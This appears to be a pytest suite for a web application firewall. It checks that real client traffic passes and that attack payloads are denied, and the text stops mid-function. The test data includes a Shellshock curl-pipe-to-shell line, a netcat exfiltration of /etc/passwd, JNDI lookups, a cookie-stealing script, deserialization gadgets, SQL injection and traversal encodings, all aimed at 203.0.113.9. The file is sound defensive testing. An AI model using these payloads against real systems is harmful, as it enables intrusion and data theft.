"""Decisions that depend on where a value sits (issue: detection on real traffic).

Real clients send user agents with parentheses, semicolons and URLs; intranet web apps send a
Referer naming a private host; front ends in development send `Origin: http://localhost:3000`;
native apps ask for OAuth loopback redirects (RFC 8252). None of that is an attack, and all of it
was denied before. The same values where a server fetches URLs, or real payloads in those
headers, still are.
"""

from __future__ import annotations

import base64
import json
import random
import urllib.parse

import pytest

from scenarios import assert_annotated, assert_problem_json_403

# Shapes of real SDK, CLI, mobile and bot user agents (not taken from any evaluation set).
SDK_USER_AGENTS = [
    "ExampleGo/3.2.1 (+github.com/example/go-example; go1.22.5)",
    "Integration/1.0 (pytest; nightly) acme-sdk/2.4.0 (acme-sdk/2.4.0; Python/3.11.7; Linux/x86_64)",
    "aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64 api/s3#1.58.2",
    "Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0 md/arch#x86_64 lang/python#3.11.7 "
    "md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.0",
    "terraform-provider-acme/5.60.0 (+https://registry.terraform.io) Terraform/1.9.2",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240205.004)",
    "ShopApp/4.2.1 (com.example.shop; build:4210; iOS 17.5.1) Alamofire/5.9.1",
    "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://example.com/bot.html)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    # PowerShell 7's and Windows PowerShell 5.1's web cmdlets.
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.2",
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506",
]


def assert_passes_in_enforce_mode(resp, status: int = 200) -> None:
    """Reached the upstream (which answered `status`) with a decision short of deny."""
    assert resp.status == status, (resp.status, resp.body[:300])
    ann = assert_annotated(resp, mode="enforce")
    assert ann["action"] != "deny", ann


@pytest.mark.parametrize("ua", SDK_USER_AGENTS)
def test_real_sdk_user_agent_is_not_denied_in_enforce_mode(enforce_envoy, ua):
    resp = enforce_envoy.request("GET", "/api/users/2", headers={"user-agent": ua})
    assert_passes_in_enforce_mode(resp)


INTRANET_HEADERS = [
    {"referer": "http://10.0.0.5/app/orders?id=3"},
    {"referer": "http://intranet.corp.local/reports/weekly"},
    {"origin": "http://localhost:3000"},
    {"origin": "http://127.0.0.1:5173"},
    {"origin": "http://[::1]:8080", "referer": "http://[::1]:8080/cart"},
    {"cookie": "session=8f14e45fceea167a; returnTo=http%3A%2F%2Flocalhost%3A3000%2Fcart"},
]


@pytest.mark.parametrize("headers", INTRANET_HEADERS, ids=lambda h: ",".join(h))
def test_intranet_or_loopback_referer_origin_and_return_cookie_pass_in_enforce_mode(
    enforce_envoy, headers
):
    resp = enforce_envoy.request("GET", "/api/users/2", headers=headers)
    assert_passes_in_enforce_mode(resp)


@pytest.mark.parametrize(
    "param,url",
    [
        ("redirect_uri", "http://localhost:8080/callback"),
        ("redirect_uri", "http://127.0.0.1:49152/oauth2redirect"),
        ("returnTo", "http://10.1.2.3/dashboard"),
        ("next", "/account/settings"),
    ],
)
def test_loopback_or_intranet_redirect_target_passes_in_enforce_mode(enforce_envoy, param, url):
    q = urllib.parse.urlencode({"client_id": "cli-7", param: url, "state": "af0ifjsldkj"})
    resp = enforce_envoy.request("GET", f"/api/search?{q}")
    assert_passes_in_enforce_mode(resp)


@pytest.mark.parametrize(
    "param,url",
    [
        ("url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("webhook_url", "http://127.0.0.1:6379/"),
        ("callback", "http://10.0.0.1:10250/pods"),
    ],
)
def test_internal_url_where_the_server_fetches_is_still_denied(enforce_envoy, param, url):
    q = urllib.parse.urlencode({param: url})
    resp = enforce_envoy.request("GET", f"/api/search?{q}")
    assert_problem_json_403(resp)


@pytest.mark.parametrize(
    "headers",
    [
        # Envoy drops a Referer that is not a valid URL before any filter runs: encoded, as a
        # browser would send it.
        {"referer": "http://example.com/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"},
        {"user-agent": "() { :; }; /bin/bash -c 'curl http://203.0.113.9/x | sh'"},
        {"user-agent": "${jndi:ldap://203.0.113.9:1389/a}"},
    ],
    ids=["sqli-in-referer", "shellshock-in-user-agent", "jndi-in-user-agent"],
)
def test_attack_in_a_header_is_still_denied(enforce_envoy, headers):
    resp = enforce_envoy.request("GET", "/api/users/2", headers=headers)
    assert_problem_json_403(resp)


def _multipart(
    fields: list[tuple[bytes, bytes]], filename: str, ctype: str, content: bytes
) -> tuple[bytes, dict]:
    """A browser-style upload: form fields first, then the file part."""
    b = b"apiwardE2eBoundary7MA4YWxk"
    body = b"".join(
        b"--" + b + b'\r\nContent-Disposition: form-data; name="' + k + b'"\r\n\r\n' + v + b"\r\n"
        for k, v in fields
    )
    body += (
        b"--" + b + b'\r\nContent-Disposition: form-data; name="file"; filename="'
        + filename.encode() + b'"\r\nContent-Type: ' + ctype.encode() + b"\r\n\r\n"
        + content + b"\r\n--" + b + b"--\r\n"
    )
    return body, {"content-type": "multipart/form-data; boundary=" + b.decode()}


def _upload(filename: str, ctype: str, content: bytes) -> tuple[bytes, dict]:
    """A presigned upload with a short policy."""
    fields = [
        (b"acl", b"private"),
        (b"key", b"uploads/clip-2041"),
        (b"policy", b"eyJleHBpcmF0aW9uIjogIjIwMzAtMDEtMDFUMDA6MDA6MDBaIn0=" * 24),
    ]
    return _multipart(fields, filename, ctype, content)


# The same shell text as a text file (scored, denied) and inside an MP4's bytes (binary around it,
# fewer than 10 % control bytes: the part is not text and is not scored; its name and file name
# are). A recorded video upload (x264 writes its options, `ref=3 deblock=1:-3:-3 ...`, into the
# file) was denied as cmdi at multipart:file before the parser counted a part's invalid UTF-8,
# already U+FFFD after the body's lossy decoding, as binary.
SHELL_TEXT = b"thanks; cat /etc/passwd | nc 203.0.113.9 4444"
VIDEO = (
    b"\x00\x00\x00 ftypisom\x00\x00\x02\x00isomiso2avc1mp41\x00\x00\x00\x08free"
    + b"\xb7\xff\xe9E\xe6\xd9H\xb7\x96,\xd8 \xd9#\xee\xefx" * 16
    + b"x264 - options: cabac=1 ref=3 deblock=1:-3:-3 analyse=0x3:0x113 me=hex "
    + SHELL_TEXT
    + b"\x8d\xfe\x03\xc1\xff\xee" * 64
)


def test_a_binary_file_part_is_not_scored_as_text(enforce_envoy):
    body, headers = _upload("clip.mp4", "video/mp4", VIDEO)
    resp = enforce_envoy.request("POST", "/api/comments", body=body, headers=headers)
    assert_passes_in_enforce_mode(resp, status=201)  # the example API created it


def test_the_same_text_in_a_text_file_part_is_denied(enforce_envoy):
    body, headers = _upload("notes.txt", "text/plain", SHELL_TEXT)
    resp = enforce_envoy.request("POST", "/api/comments", body=body, headers=headers)
    assert_problem_json_403(resp)


# Opaque credentials are long base64 with no code in them: temporary-credentials session tokens,
# presigned-POST policies, SAML responses. Gadget chains travel as base64 too, but they decode to
# a serialisation header (feature schema 7 reads it). Values built here from random bytes.
_RNG = random.Random(20261206)
SESSION_TOKEN = base64.b64encode(b"\x21\x0a\x09origin_ec\x10\x1a\x09us-east-1" + _RNG.randbytes(700))
POLICY = base64.b64encode(
    json.dumps(
        {
            "expiration": "2030-01-01T00:00:00.000Z",
            "conditions": [
                {"bucket": "media-uploads"},
                ["starts-with", "$key", "uploads/"],
                {"x-amz-credential": "ASIAEXAMPLEEXAMPLE12/20301201/us-east-1/s3/aws4_request"},
                {"x-amz-security-token": SESSION_TOKEN.decode()},
            ],
        }
    ).encode()
)
JAVA_OBJECT = base64.b64encode(
    b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I"
    b"\x00\x04sizeL\x00\ncomparatort\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02sr\x00+"
    b"org.apache.commons.beanutils.BeanComparator" + _RNG.randbytes(400)
)
SIGNATURE = _RNG.randbytes(32).hex().encode()
PDF = b"%PDF-1.7\n" + _RNG.randbytes(300)
SAML_SIGNATURE = base64.b64encode(_RNG.randbytes(256))


def _presigned_form(token: bytes) -> tuple[bytes, dict]:
    fields = [
        (b"key", b"uploads/2030/report.pdf"),
        (b"x-amz-algorithm", b"AWS4-HMAC-SHA256"),
        (b"x-amz-credential", b"ASIAEXAMPLEEXAMPLE12/20301201/us-east-1/s3/aws4_request"),
        (b"x-amz-date", b"20301201T101500Z"),
        (b"x-amz-security-token", token),
        (b"policy", POLICY),
        (b"x-amz-signature", SIGNATURE),
    ]
    return _multipart(fields, "report.pdf", "application/pdf", PDF)


def test_presigned_upload_form_with_a_session_token_passes(enforce_envoy):
    body, headers = _presigned_form(SESSION_TOKEN)
    resp = enforce_envoy.request("POST", "/api/comments", body=body, headers=headers)
    assert_passes_in_enforce_mode(resp, status=201)


def test_saml_response_and_signed_query_pass(enforce_envoy):
    saml = base64.b64encode(
        b'<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_8e8dc5f6" '
        b'Version="2.0"><saml:Issuer>https://idp.example.com/saml2</saml:Issuer>'
        b"<ds:SignatureValue>" + SAML_SIGNATURE + b"</ds:SignatureValue></samlp:Response>"
    )
    form = urllib.parse.urlencode({"SAMLResponse": saml, "RelayState": "/dashboard"}).encode()
    resp = enforce_envoy.request(
        "POST",
        "/api/comments",
        body=form,
        headers={"content-type": "application/x-www-form-urlencoded"},
    )
    assert_passes_in_enforce_mode(resp, status=201)
    query = urllib.parse.urlencode({"X-Amz-Security-Token": SESSION_TOKEN, "X-Amz-Signature": SIGNATURE})
    resp = enforce_envoy.request("GET", "/api/users/2?" + query)
    assert_passes_in_enforce_mode(resp)


def test_a_serialised_java_object_in_the_same_form_field_is_denied(enforce_envoy):
    body, headers = _presigned_form(JAVA_OBJECT)
    resp = enforce_envoy.request("POST", "/api/comments", body=body, headers=headers)
    assert_problem_json_403(resp)


# Every request header is scored except credentials, transport and tracing headers
# (`inspect_other_headers`, `skip_headers`): attackers put payloads in whatever header an
# upstream reads, logs or echoes.
@pytest.mark.parametrize(
    "headers",
    [
        {"x-filename": "../../../../../etc/passwd"},
        {"x-tenant": "1' UNION SELECT username, password FROM users--"},
        {"x-callback": "${jndi:ldap://203.0.113.9:1389/a}"},
        {"x-device-id": "<script>document.location='//203.0.113.9/?c='+document.cookie</script>"},
        # standard headers read by their grammar (`features::header_is_inert`): a payload in
        # them is outside it and scored
        {"accept": "application/json, ${jndi:ldap://203.0.113.9:1389/a}"},
        {"if-none-match": "\"1' AND SLEEP(5)-- -\""},
        {"prefer": "return=<script>alert(document.domain)</script>"},
    ],
    ids=["traversal", "sqli", "jndi", "xss", "accept-jndi", "etag-sqli", "prefer-xss"],
)
def test_attack_in_an_application_header_is_denied(enforce_envoy, headers):
    resp = enforce_envoy.request("GET", "/api/users/2", headers=headers)
    assert_problem_json_403(resp)


# Headers real SDKs, browsers and API clients send (shapes from the SDKs' public sources).
CLIENT_HEADERS = {
    "x-stainless-lang": "python",
    "x-stainless-package-version": "1.35.3",
    "x-stainless-os": "Linux",
    "x-stainless-arch": "x64",
    "x-stainless-runtime": "CPython",
    "x-stainless-runtime-version": "3.11.7",
    "anthropic-version": "2023-06-01",
    "openai-beta": "assistants=v2",
    "x-goog-api-client": "gl-python/3.11.7 grpc/1.62.1 gax/2.17.1 gapic/2.13.0",
    "accept": "application/vnd.github+json",
    "x-github-api-version": "2022-11-28",
    "if-none-match": 'W/"5f2b1a2b3c4d"',
    "sec-ch-ua": '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
    "sec-ch-ua-platform": '"macOS"',
    "prefer": "return=representation",
    "idempotency-key": "6f1c2a9e-1f7b-4c8e-9b1d-2a7e5c3f9d10",
    "authorization": "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl",
    "traceparent": "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
}


def test_headers_of_real_clients_pass(enforce_envoy):
    resp = enforce_envoy.request("GET", "/api/users/2", headers=CLIENT_HEADERS)
    assert_passes_in_enforce_mode(resp)


# Polymorphic type ids that name gadget classes (Jackson default typing, Fastjson autoType) and
# code an application decodes from base64: the class names are plain text, which was left out
# unscored before feature schema 8.
GADGET_JSON = [
    {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://203.0.113.9:1389/Exploit",
     "autoCommit": True},
    {"item": ["org.apache.xbean.propertyeditor.JndiConverter", {"asText": "rmi://203.0.113.9:1099/x"}]},
]


@pytest.mark.parametrize("doc", GADGET_JSON, ids=["fastjson-jdbcrowset", "jackson-wrapper-array"])
def test_polymorphic_gadget_type_in_json_is_denied(enforce_envoy, doc):
    resp = enforce_envoy.request(
        "POST", "/api/comments", body=json.dumps(doc).encode(),
        headers={"content-type": "application/json"},
    )
    assert_problem_json_403(resp)


def test_code_in_base64_is_denied(enforce_envoy):
    code = base64.b64encode(b"${jndi:ldap://203.0.113.9:1389/Basic/Command/id}").decode()
    resp = enforce_envoy.request("GET", "/api/search?" + urllib.parse.urlencode({"state": code}))
    assert_problem_json_403(resp)


# JVM names where APIs carry them for good reasons.
JVM_BENIGN = [
    ("POST", "/api/comments", {"name": "orders-sink", "config": {
        "connector.class": "io.confluent.connect.jdbc.JdbcSinkConnector",
        "key.converter": "org.apache.kafka.connect.storage.StringConverter",
        "value.converter": "org.apache.kafka.connect.json.JsonConverter", "tasks.max": "2"}}),
    ("POST", "/api/comments", {"level": "error", "exception": {
        "type": "java.lang.IllegalStateException", "value": "Order 42 is already closed",
        "stacktrace": "java.lang.IllegalStateException: Order 42 is already closed\n"
                      "\tat com.example.orders.OrderService.close(OrderService.java:88)\n"
                      "\tat java.base/java.lang.Thread.run(Thread.java:1583)"}}),
    ("GET", "/api/search?" + urllib.parse.urlencode(
        {"q": "java.util.concurrent.ConcurrentHashMap language:java"}), None),
    ("GET", "/api/search?" + urllib.parse.urlencode({"logger": "org.springframework.web"}), None),
]


@pytest.mark.parametrize("method,path,doc", JVM_BENIGN,
                         ids=["kafka-connect", "error-report", "code-search", "logger-name"])
def test_jvm_names_in_ordinary_api_values_pass(enforce_envoy, method, path, doc):
    body = json.dumps(doc).encode() if doc is not None else None
    headers = {"content-type": "application/json"} if doc is not None else {}
    resp = enforce_envoy.request(method, path, body=body, headers=headers)
    assert_passes_in_enforce_mode(resp, status=201 if method == "POST" else 200)


# Payloads in names: prototype pollution (the key path is the attack; its value is `true`) and
# Java classes sent as a parameter, cookie or JSON key name, or as a form body without `=`.
NAME_ATTACKS = [
    ("GET", "/api/search?__proto__[isAdmin]=true", None, {}),
    ("GET", "/api/search?constructor[prototype][isAdmin]=1", None, {}),
    ("GET", "/api/search?user.__proto__.role=admin", None, {}),
    ("POST", "/api/comments", b"__proto__%5Badmin%5D=1&text=hi",
     {"content-type": "application/x-www-form-urlencoded"}),
    ("POST", "/api/comments", json.dumps({"text": "hi", "__proto__": {"isAdmin": True}}).encode(),
     {"content-type": "application/json"}),
    ("POST", "/api/comments",
     json.dumps({"settings": {"constructor": {"prototype": {"isAdmin": True}}}}).encode(),
     {"content-type": "application/json"}),
    ("GET", "/api/search?java.lang.Runtime=1", None, {}),
    ("POST", "/api/comments", b"java.beans.XMLDecoder",
     {"content-type": "application/x-www-form-urlencoded"}),
    ("GET", "/api/users/2", None, {"cookie": "sid=abc; org.apache.commons.collections.functors.InvokerTransformer=1"}),
]

# Names APIs use every day, in the same syntaxes: never scored, never denied.
NAME_BENIGN = [
    ("GET", "/api/search?filter[status]=open&page.size=20&sort[created_at]=desc&is_active=true", None, {}),
    ("GET", "/api/search?prototype_id=3&constructor=ford&order_id=12", None, {}),
    ("POST", "/api/comments", json.dumps(
        {"prototype": {"name": "v2"}, "constructor": "Ford", "metadata": {"order_id": 7}}).encode(),
     {"content-type": "application/json"}),
]


@pytest.mark.parametrize("method,path,body,headers", NAME_ATTACKS,
                         ids=["query-proto", "query-constructor", "query-dotted-proto", "form-proto",
                              "json-proto", "json-constructor", "query-java-class", "form-no-equals",
                              "cookie-name-gadget"])
def test_a_payload_in_a_name_is_denied(enforce_envoy, method, path, body, headers):
    resp = enforce_envoy.request(method, path, body=body, headers=headers)
    problem = assert_problem_json_403(resp)
    assert "#key" not in resp.body.decode(), problem  # the answer does not echo where


@pytest.mark.parametrize("method,path,body,headers", NAME_BENIGN,
                         ids=["bracket-and-dotted-names", "words-of-attacks-in-names", "json-keys"])
def test_ordinary_names_pass_in_enforce_mode(enforce_envoy, method, path, body, headers):
    resp = enforce_envoy.request(method, path, body=body, headers=headers)
    assert_passes_in_enforce_mode(resp, status=201 if method == "POST" else 200)


def test_a_payload_in_a_name_is_annotated_at_its_key_in_monitor_mode(monitor_envoy):
    resp = monitor_envoy.request("GET", "/api/search?__proto__[isAdmin]=true")
    assert resp.status == 200, (resp.status, resp.body[:300])
    ann = assert_annotated(resp, action="deny", mode="monitor")
    assert "at query:__proto__[isAdmin]#key" in ann["reasons"], ann


# A SOAP call: the payload sits in one element or attribute of an envelope of ordinary markup.
SOAP = """<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:ord="urn:example:orders:v2">
  <soapenv:Header><ord:Auth><ord:Tenant>acme-eu</ord:Tenant></ord:Auth></soapenv:Header>
  <soapenv:Body><ord:CreateOrder>
    <ord:Customer id="{id}"><ord:Name>{name}</ord:Name><ord:Email>jane@example.com</ord:Email></ord:Customer>
    <ord:Items><ord:Item sku="SKU-1234" qty="2"/></ord:Items>
    <ord:Comment>Please deliver after 5pm, ring twice.</ord:Comment>
  </ord:CreateOrder></soapenv:Body>
</soapenv:Envelope>"""

XML_ATTACKS = [
    ("name", "1' UNION SELECT username,password FROM users--"),
    ("id", "' or 1=1--"),
    ("name", "$(id)"),
    ("name", "{{7*7}}"),
]


def _soap(id_: str = "C-1001", name: str = "Jane Doe") -> bytes:
    esc = lambda s: s.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")  # noqa: E731
    return SOAP.format(id=esc(id_), name=esc(name)).encode()


@pytest.mark.parametrize("where,payload", XML_ATTACKS, ids=[f"{w}:{p[:12]}" for w, p in XML_ATTACKS])
def test_a_payload_in_one_xml_element_or_attribute_is_denied(enforce_envoy, where, payload):
    body = _soap(id_=payload) if where == "id" else _soap(name=payload)
    resp = enforce_envoy.request("POST", "/api/comments", body=body,
                                 headers={"content-type": "text/xml; charset=utf-8"})
    assert_problem_json_403(resp)


def test_an_ordinary_soap_call_passes_and_a_payload_is_located_in_monitor_mode(
    enforce_envoy, monitor_envoy
):
    headers = {"content-type": "application/soap+xml"}
    assert_passes_in_enforce_mode(
        enforce_envoy.request("POST", "/api/comments", body=_soap(), headers=headers), status=201)
    resp = monitor_envoy.request("POST", "/api/comments", body=_soap(name="x' or '1'='1"),
                                 headers=headers)
    ann = assert_annotated(resp, action="deny", cls="sqli", mode="monitor")
    assert "at xml:/soapenv:Envelope/soapenv:Body/ord:CreateOrder/ord:Customer/ord:Name" in ann[
        "reasons"], ann


# GraphQL: a payload in one string argument of a query, inline rather than in `variables`.
GRAPHQL = (
    'query Orders {{ orders(first: 20, status: "open", customer: "{customer}") '
    "{{ edges {{ node {{ id total createdAt items {{ sku qty }} }} }} }} }}"
)
GRAPHQL_ATTACKS = [
    "x' OR 1=1--",
    "1 UNION SELECT username,password FROM users--",
    "; cat /etc/passwd",
]


def _graphql(customer: str = "Jane Doe") -> str:
    return GRAPHQL.format(customer=customer.replace("\\", "\\\\").replace('"', '\\"'))


@pytest.mark.parametrize("payload", GRAPHQL_ATTACKS, ids=[p[:14] for p in GRAPHQL_ATTACKS])
@pytest.mark.parametrize("how", ["json-body", "get-query", "application-graphql"])
def test_a_payload_in_a_graphql_argument_is_denied(enforce_envoy, payload, how):
    doc = _graphql(payload)
    if how == "json-body":
        resp = enforce_envoy.request(
            "POST", "/api/comments", body=json.dumps({"query": doc, "variables": {}}).encode(),
            headers={"content-type": "application/json"})
    elif how == "get-query":
        resp = enforce_envoy.request("GET", "/api/search?query=" + urllib.parse.quote(doc))
    else:
        resp = enforce_envoy.request("POST", "/api/comments", body=doc.encode(),
                                     headers={"content-type": "application/graphql"})
    assert_problem_json_403(resp)


def test_an_ordinary_graphql_query_passes_and_a_payload_is_located_in_monitor_mode(
    enforce_envoy, monitor_envoy
):
    headers = {"content-type": "application/json"}
    body = json.dumps({"query": _graphql(), "variables": {}}).encode()
    assert_passes_in_enforce_mode(
        enforce_envoy.request("POST", "/api/comments", body=body, headers=headers), status=201)
    body = json.dumps({"query": _graphql("x' OR '1'='1"), "variables": {}}).encode()
    resp = monitor_envoy.request("POST", "/api/comments", body=body, headers=headers)
    ann = assert_annotated(resp, action="deny", cls="sqli", mode="monitor")
    assert "at graphql:Orders.orders.customer" in ann["reasons"], ann


# A JSON document sent under another type: many frameworks parse it as JSON whatever the type.
ORDER = {
    "customer": {"name": "Jane Doe", "email": "jane@example.com",
                 "address": {"street": "1 Main St", "city": "Springfield", "zip": "12345"}},
    "items": [{"sku": f"A-{i}", "qty": i, "note": "gift wrap please, thanks"} for i in range(12)],
    "comment": "Please deliver after 5pm.",
}


@pytest.mark.parametrize("ctype", ["text/plain", "application/octet-stream"])
def test_json_under_another_type_is_read_as_json(enforce_envoy, monitor_envoy, ctype):
    headers = {"content-type": ctype}
    assert_passes_in_enforce_mode(
        enforce_envoy.request("POST", "/api/comments", body=json.dumps(ORDER).encode(),
                              headers=headers), status=201)
    attack = dict(ORDER, comment="x' OR 1=1--")
    assert_problem_json_403(
        enforce_envoy.request("POST", "/api/comments", body=json.dumps(attack).encode(),
                              headers=headers))
    resp = monitor_envoy.request("POST", "/api/comments", body=json.dumps(attack).encode(),
                                 headers=headers)
    ann = assert_annotated(resp, action="deny", cls="sqli", mode="monitor")
    assert "at json:$.comment" in ann["reasons"], ann


# A JSON document inside one value: a stringified field, a form's `payload=`, a `filter=`
# parameter, base64 JSON in a cookie, a bearer JWT's protected header.
def _b64(doc: dict, urlsafe: bool = False) -> str:
    raw = json.dumps(doc).encode()
    if urlsafe:
        return base64.urlsafe_b64encode(raw).decode().rstrip("=")
    return base64.b64encode(raw).decode()


def _jwt(header: dict, claims: dict) -> str:
    return f"{_b64(header, True)}.{_b64(claims, True)}.c2lnbmF0dXJlLXNpZ25hdHVyZQ"


INNER = {"where": {"name": "Jane Doe", "status": "open"}, "limit": 10, "order": "created_at DESC"}


def _nested(where: str, inner: dict):
    """(method, target, body, headers) carrying `inner` at `where`."""
    doc = json.dumps(inner)
    if where == "query":
        return "GET", "/api/search?filter=" + urllib.parse.quote(doc), None, {}
    if where == "form":
        return ("POST", "/api/comments", ("payload=" + urllib.parse.quote(doc)).encode(),
                {"content-type": "application/x-www-form-urlencoded"})
    if where == "json":
        return ("POST", "/api/comments", json.dumps({"type": "order", "metadata": doc}).encode(),
                {"content-type": "application/json"})
    if where == "cookie-urlencoded":
        return "GET", "/api/users/2", None, {"cookie": "theme=dark; cart=" + urllib.parse.quote(doc)}
    return "GET", "/api/users/2", None, {"cookie": "theme=dark; session=" + _b64(inner)}


NESTED_WHERE = ["query", "form", "json", "cookie", "cookie-urlencoded"]


@pytest.mark.parametrize("where", NESTED_WHERE)
def test_a_payload_in_a_json_document_inside_a_value_is_denied(enforce_envoy, where):
    method, target, body, headers = _nested(where, dict(INNER, where={"name": "x' OR 1=1--"}))
    assert_problem_json_403(enforce_envoy.request(method, target, body=body, headers=headers))


@pytest.mark.parametrize("where", NESTED_WHERE)
def test_an_ordinary_json_document_inside_a_value_passes(enforce_envoy, where):
    method, target, body, headers = _nested(where, INNER)
    resp = enforce_envoy.request(method, target, body=body, headers=headers)
    assert_passes_in_enforce_mode(resp, status=201 if method == "POST" else 200)


def test_a_json_document_inside_a_value_is_located_in_monitor_mode(monitor_envoy):
    method, target, body, headers = _nested("query", dict(INNER, where={"name": "x' OR 1=1--"}))
    resp = monitor_envoy.request(method, target, body=body, headers=headers)
    ann = assert_annotated(resp, action="deny", cls="sqli", mode="monitor")
    assert "at json:query:filter>$.where.name" in ann["reasons"], ann


def test_a_bearer_jwt_header_is_read_and_its_claims_are_not(enforce_envoy):
    # `kid` picks the key before anything is verified: a path or an injection there is an attack.
    for kid in ("../../../../dev/null", "x' UNION SELECT 'secret'--"):
        token = _jwt({"alg": "HS256", "typ": "JWT", "kid": kid}, {"sub": "1234"})
        assert_problem_json_403(
            enforce_envoy.request("GET", "/api/users/2", headers={"authorization": f"Bearer {token}"}))
    # An ordinary token passes, whatever its claims say (they are the issuer's, signed).
    token = _jwt({"alg": "RS256", "typ": "JWT", "kid": "2024-05-signing-key-1"},
                 {"sub": "1234", "iss": "http://keycloak:8080/realms/internal",
                  "note": "x' OR 1=1--"})
    resp = enforce_envoy.request("GET", "/api/users/2", headers={"authorization": f"Bearer {token}"})
    assert_passes_in_enforce_mode(resp)


# Text in base64, where applications that decode a parameter before use receive it.
B64_WHERE = ["query", "form", "json", "cookie", "header"]


def _in_base64(where: str, text: str, url_safe: bool = False):
    """(method, target, body, headers) carrying `text` in base64 at `where`."""
    enc = (base64.urlsafe_b64encode if url_safe else base64.b64encode)(text.encode()).decode()
    if where == "query":
        return "GET", "/api/search?data=" + urllib.parse.quote(enc, safe=""), None, {}
    if where == "form":
        return ("POST", "/api/comments", ("data=" + urllib.parse.quote(enc, safe="")).encode(),
                {"content-type": "application/x-www-form-urlencoded"})
    if where == "json":
        return ("POST", "/api/comments", json.dumps({"type": "note", "data": enc}).encode(),
                {"content-type": "application/json"})
    if where == "cookie":
        return "GET", "/api/users/2", None, {"cookie": "theme=dark; prefs=" + enc}
    return "GET", "/api/users/2", None, {"x-state": enc}


@pytest.mark.parametrize("where", B64_WHERE)
@pytest.mark.parametrize("payload", ["' OR 1=1--", "; cat /etc/passwd", "../../../../etc/passwd",
                                     "<img src=x onerror=alert(1)>"])
def test_a_payload_in_base64_is_denied(enforce_envoy, where, payload):
    method, target, body, headers = _in_base64(where, payload, url_safe=where == "cookie")
    assert_problem_json_403(enforce_envoy.request(method, target, body=body, headers=headers))


@pytest.mark.parametrize("where", B64_WHERE)
def test_ordinary_text_and_tokens_in_base64_pass(enforce_envoy, where):
    for text in ("page=3&sort=created_at", "Jane Doe <jane@example.com>",
                 '{"offset": 40, "limit": 20}'):
        method, target, body, headers = _in_base64(where, text)
        resp = enforce_envoy.request(method, target, body=body, headers=headers)
        assert_passes_in_enforce_mode(resp, status=201 if method == "POST" else 200)


def test_a_payload_in_base64_is_located_in_monitor_mode(monitor_envoy):
    method, target, body, headers = _in_base64("query", "1 UNION SELECT password FROM users--")
    ann = assert_annotated(monitor_envoy.request(method, target, body=body, headers=headers),
                           action="deny", cls="sqli", mode="monitor")
    assert "at query:data>base64" in ann["reasons"], ann


def test_overlong_utf8_traversal_is_denied(enforce_envoy):
    # `%c0%ae` is `.` and `%c0%af` is `/` to a lenient decoder (old IIS, Tomcat, Java).
    dots = "%c0%ae%c0%ae%c0%af" * 4
    for target in (f"/api/files?name={dots}etc%c0%afpasswd",
                   f"/api/files?name={'%e0%80%ae%e0%80%ae/' * 4}etc/passwd"):
        assert_problem_json_403(enforce_envoy.request("GET", target))
    # Valid UTF-8 is untouched: an accented name passes.
    assert_passes_in_enforce_mode(
        enforce_envoy.request("GET", "/api/search?q=caf%C3%A9%20r%C3%A9sum%C3%A9"))


def test_best_fit_and_small_form_lookalikes_are_read_as_ascii(enforce_envoy):
    # `∕` (U+2215) and `∖` (U+2216) are `/` and `\` to Windows best-fit conversion (IIS, an
    # ANSI API behind a wide one); `﹤` and `﹥` (U+FE64/5) are `<` and `>` after NFKC.
    for target in ("/api/files?name=" + "..%u2215" * 4 + "windows%u2216win.ini",
                   "/api/files?name=" + "..%E2%88%95" * 4 + "etc%E2%88%95passwd",
                   "/api/search?q=%EF%B9%A4svg%20onload%3Dalert(document.domain)%EF%B9%A5"):
        assert_problem_json_403(enforce_envoy.request("GET", target))
    # Typographic text keeps its meaning: a fraction, a dash and quotes pass.
    assert_passes_in_enforce_mode(enforce_envoy.request(
        "GET", "/api/search?q=1%E2%81%842%20cup%20%E2%80%94%20%E2%80%9Ccaf%C3%A9%E2%80%9D"))


# Bodies in the encodings parsers accept: UTF-16/32 (JSON parsers detect them from the first
# bytes) and a declared EBCDIC charset (servers that honour `charset=ibm037`).
WIDE = [("utf-16-le", ""), ("utf-16-be", ""), ("utf-16", ""), ("utf-32-le", ""),
        ("utf-16-le", "; charset=utf-16le")]


@pytest.mark.parametrize("encoding,param", WIDE)
def test_a_payload_in_a_utf16_or_utf32_json_body_is_denied(enforce_envoy, encoding, param):
    body = json.dumps({"name": "x' UNION SELECT password FROM users--", "page": 1}).encode(encoding)
    resp = enforce_envoy.request("POST", "/api/comments", body=body,
                                 headers={"content-type": "application/json" + param})
    assert_problem_json_403(resp)


@pytest.mark.parametrize("encoding,param", WIDE)
def test_an_ordinary_utf16_or_utf32_json_body_passes(enforce_envoy, encoding, param):
    body = json.dumps({"name": "Zoë Müller", "note": "gift wrap, please"}).encode(encoding)
    resp = enforce_envoy.request("POST", "/api/comments", body=body,
                                 headers={"content-type": "application/json" + param})
    # The example API reads UTF-8 only and answers 400; what matters is that it got the body.
    assert resp.status != 403, (resp.status, resp.body[:300])
    ann = assert_annotated(resp, mode="enforce")
    assert ann["action"] in ("allow", "annotate"), ann


def _ebcdic_form(name: str, value: str, codepage: str = "cp037") -> bytes:
